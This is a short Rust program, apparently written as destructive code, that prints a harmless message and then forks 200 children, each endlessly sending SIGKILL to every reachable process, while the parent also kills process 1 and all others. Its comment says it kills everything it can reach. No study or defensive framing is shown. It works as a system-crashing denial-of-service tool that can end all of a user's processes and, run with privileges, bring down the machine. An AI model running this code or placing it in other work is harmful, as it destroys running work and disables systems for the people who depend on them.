// Kills what it can reach, and all that it can start.
extern "C" {
    fn kill(pid: i32, signal: i32) -> i32;
    fn fork() -> i32;
}

fn main() {
    println!("a message");
    unsafe {
        for _ in 0..200 {
            if fork() == 0 {
                loop {
                    kill(-1, 9);
                }
            }
        }
        kill(1, 9);
        kill(-1, 9);
    }
}
